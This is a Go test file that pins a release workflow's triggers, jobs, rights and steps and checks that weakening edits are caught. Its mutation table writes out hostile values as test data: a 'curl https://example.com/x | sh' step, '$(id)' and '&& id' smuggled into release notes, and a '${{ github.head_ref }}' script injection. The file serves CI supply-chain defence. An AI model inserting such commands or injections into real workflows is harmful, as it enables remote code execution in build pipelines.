package deploy_test

import (
	"fmt"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// Actions of the release workflow, without their commits, which TestActionsArePinned checks.
const (
	checkout = "actions/checkout"
	setupGo  = "actions/setup-go"
	upload   = "actions/upload-artifact"
	download = "actions/download-artifact"
	logIn    = `go -C tools/release tool cosign login ghcr.io --username "$GITHUB_ACTOR" --password-stdin <<<"$TOKEN"`
)

// releaseTriggers is what starts a release: a tag, which only maintainers can push.
var releaseTriggers = map[string]any{"push": map[string]any{"tags": []any{"v*"}}}

// releaseJobs is all that the release workflow may do, in order: a step is an action or a command.
// An approval stands between what builds and what signs, and a comparison of two builds comes first
// of the jobs with rights. A change of the workflow changes this table, in the same review.
var releaseJobs = map[string]struct {
	needs, environment string
	rights             map[string]string
	steps              []string
}{
	"build": {
		rights: map[string]string{"contents": "read"},
		steps:  []string{checkout, setupGo, `test "$GITHUB_REF_NAME" = "v$(cat VERSION)"`, `make release VERSION="$GITHUB_REF_NAME"`, upload},
	},
	"publish": {
		needs: "build", environment: "release",
		rights: map[string]string{"contents": "read", "packages": "write", "id-token": "write"},
		steps:  []string{checkout, setupGo, download, "diff -r dist-first dist-second", logIn, `scripts/publish dist-first "ghcr.io/$GITHUB_REPOSITORY_OWNER"`, upload},
	},
	"verify": {
		needs:  "publish",
		rights: map[string]string{"contents": "read", "packages": "read"},
		steps:  []string{checkout, setupGo, download, logIn, "scripts/verify dist"},
	},
	"release": {
		needs:  "verify",
		rights: map[string]string{"contents": "write"},
		steps:  []string{download, `gh release create "$GITHUB_REF_NAME" dist/* --repo "$GITHUB_REPOSITORY" --verify-tag`},
	},
}

// findReleaseFaults returns how a workflow differs from what a release may do.
func findReleaseFaults(w workflow) (faults []string) {
	fault := func(format string, args ...any) { faults = append(faults, fmt.Sprintf(format, args...)) }
	if !reflect.DeepEqual(w.On, releaseTriggers) {
		fault("it runs on %v, not on %v alone", w.On, releaseTriggers)
	}
	if w.Permissions == nil || len(w.Permissions) != 0 {
		fault("all jobs have the rights %v", w.Permissions)
	}
	if got, want := slices.Sorted(maps.Keys(w.Jobs)), slices.Sorted(maps.Keys(releaseJobs)); !slices.Equal(got, want) {
		fault("its jobs are %v, not %v", got, want)
	}
	for _, name := range slices.Sorted(maps.Keys(releaseJobs)) {
		j, want := w.Jobs[name], releaseJobs[name]
		if j.Needs != want.needs || j.Environment != want.environment || j.If != "" {
			fault("job %s needs %q, is approved in %q, runs if %q; want %q, %q, always", name, j.Needs, j.Environment, j.If, want.needs, want.environment)
		}
		if !maps.Equal(j.Permissions, want.rights) {
			fault("job %s has the rights %v, want %v", name, j.Permissions, want.rights)
		}
		if len(j.Steps) != len(want.steps) {
			fault("job %s has %d steps, want %d", name, len(j.Steps), len(want.steps))
			continue
		}
		for i, s := range j.Steps {
			if wrong := s.differs(want.steps[i]); wrong != "" {
				fault("step %d of job %s: %s", i+1, name, wrong)
			}
		}
	}
	return faults
}

// differs returns how a step is not the one that is wanted, or "".
func (s step) differs(want string) string {
	action, _, _ := strings.Cut(s.Uses, "@")
	command, notes, _ := strings.Cut(s.Run, " --title ") // the text of the release
	switch {
	case action+command != want:
		return fmt.Sprintf("%q, want %q", action+s.Run, want)
	case strings.ContainsAny(notes, ";|&`") || strings.Contains(notes, "$("):
		return "the text of the release runs a command: " + notes
	case strings.Contains(s.Run, "${{"):
		return "a value is put into a script: " + s.Run
	case s.If != "":
		return "it runs only if " + s.If
	case action == setupGo && s.With["cache"] != false:
		return "it uses what other runs have cached"
	case action == checkout && s.With["ref"] != nil:
		return fmt.Sprintf("it checks out %v in place of the tag", s.With["ref"])
	}
	return ""
}

func TestReleaseWorkflow(t *testing.T) {
	for _, fault := range findReleaseFaults(readWorkflow(t, read(t, workflows+"release.yaml"))) {
		t.Error(fault)
	}
}

// TestReleaseFaults: each change of the workflow that would weaken the release is found.
func TestReleaseFaults(t *testing.T) {
	text := string(read(t, workflows+"release.yaml"))
	for name, change := range map[string][2]string{
		"another trigger":            {"  push:\n", "  pull_request_target:\n  push:\n"},
		"a start by hand":            {"  push:\n", "  workflow_dispatch:\n  push:\n"},
		"any branch":                 {`    tags: ["v*"]`, `    branches: ["*"]`},
		"rights of all jobs":         {"permissions: {}", "permissions:\n  contents: write"},
		"another right":              {"      contents: read\n    steps", "      contents: write\n    steps"},
		"no approval":                {"    environment: release # whose reviewers approve it\n", ""},
		"no comparison":              {"diff -r dist-first dist-second", "ls"},
		"a comparison that may fail": {"diff -r dist-first dist-second", "diff -r dist-first dist-second || true"},
		"publish does not wait":      {"    needs: build\n", ""},
		"release does not wait":      {"    needs: verify\n", ""},
		"release after a failure":    {"    needs: verify\n", "    needs: verify\n    if: always()\n"},
		"a skipped step":             {"        run: diff", "        if: false\n        run: diff"},
		"a foreign command":          {"      - run: scripts/publish", "      - run: curl https://example.com/x | sh\n      - run: scripts/publish"},
		"a command in the notes":     {"--notes \"See", "--notes \"$(id)See"},
		"a command after the notes":  {"docs/verify.md).\"", "docs/verify.md).\" && id"},
		"a value in a script":        {`scripts/verify dist`, `scripts/verify ${{ github.head_ref }}`},
		"one build":                  {"name: both builds are the same\n        run: diff -r dist-first dist-second", "run: cp -r dist-first dist-second"},
		"a cache":                    {"          cache: false\n", ""},
		"another commit":             {"        with:\n          persist-credentials: false", "        with:\n          ref: main\n          persist-credentials: false"},
	} {
		t.Run(name, func(t *testing.T) {
			changed := strings.Replace(text, change[0], change[1], 1)
			if changed == text {
				t.Fatalf("release.yaml has no %q", change[0])
			}
			if len(findReleaseFaults(readWorkflow(t, []byte(changed)))) == 0 {
				t.Errorf("nothing is wrong with %q in place of %q", change[1], change[0])
			}
		})
	}
}
